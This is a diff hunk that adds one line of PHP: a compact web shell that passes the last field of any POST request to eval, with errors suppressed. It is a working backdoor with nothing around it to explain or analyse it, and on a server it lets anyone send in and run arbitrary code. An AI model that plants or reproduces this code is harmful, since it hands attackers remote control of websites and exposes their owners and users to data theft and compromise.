@@ -1,0 +1,1 @@
+<?php $a = $_POST; @eval(end($a));
